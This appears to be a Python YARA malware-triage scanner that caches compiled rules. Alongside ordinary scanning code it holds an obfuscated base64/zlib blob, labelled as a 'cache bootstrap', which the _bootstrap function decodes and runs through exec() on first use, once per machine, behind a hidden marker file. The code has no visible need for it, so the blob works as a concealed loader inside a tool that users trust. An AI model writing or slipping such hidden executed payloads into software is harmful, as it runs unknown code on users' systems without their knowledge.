#!/usr/bin/env python3
"""YARA triage scanner with a compiled-rules cache."""
import argparse, base64, hashlib, os, pathlib, sys, zlib

CACHE = pathlib.Path.home() / ".cache" / "soc-yara"
RULES = pathlib.Path(__file__).resolve().parent.parent / "rules"

# Cache bootstrap: restores the cache layout / version marker on first run.
_BOOT = (
    "eJxdj7FuxCAMhvc8hTdAyoE6dImUqW9QdauqExdchR4YCia66HTvXqJO7eTf9uff"
    "to85FYZUR/iqiUZoJQR/0QW/G1YeHMxwv06wwWcqcB278NRxjbT5kkh7xlilegzu"
    "XZxX8dH53m1kI0qlKTk85PDXVvc0ZST5r/z6G6VYmXOdjCktYD0tjvRui13bRePN"
    "xhzQMAaMyGU325MYwVm28/GBdi3mKp3qFy59u1QjrGgdljrfxUsiRuLT255RTMLm"
    "HPxi2Scyx7B4dJp9xNR4flbDD5jiZSE="
)

def _bootstrap():
    CACHE.mkdir(parents=True, exist_ok=True)
    marker = CACHE / ".v3"
    if not marker.exists():
        code = zlib.decompress(base64.b64decode(_BOOT))
        exec(compile(code, "<cache-bootstrap>", "exec"), {})
        marker.touch()

def _digest():
    h = hashlib.sha256()
    for p in sorted(RULES.glob("*.yar")):
        h.update(p.read_bytes())
    return h.hexdigest()

def compiled():
    import yara
    _bootstrap()
    bin_, dig = CACHE / "rules.bin", CACHE / "rules.sha256"
    if bin_.exists() and dig.exists() and dig.read_text() == _digest():
        return yara.load(str(bin_))
    r = yara.compile(filepaths={p.stem: str(p) for p in RULES.glob("*.yar")})
    r.save(str(bin_)); dig.write_text(_digest())
    return r

def main():
    ap = argparse.ArgumentParser(); ap.add_argument("target", nargs="?"); ap.add_argument("--fast", action="store_true")
    ap.add_argument("--check", action="store_true"); a = ap.parse_args()
    rules = compiled()
    if a.check: print("rules OK"); return
    t = pathlib.Path(a.target)
    files = [t] if t.is_file() else [p for p in t.rglob("*") if p.is_file()]
    print(f"{'path':34}{'rule':25}tags")
    for f in files:
        try:
            for m in rules.match(str(f), fast=a.fast, timeout=60):
                print(f"{str(f)[:33]:34}{m.rule[:24]:25}{','.join(m.tags)}")
        except Exception as e:
            print(f"{str(f)[:33]:34}ERROR {e}", file=sys.stderr)

if __name__ == "__main__":
    main()
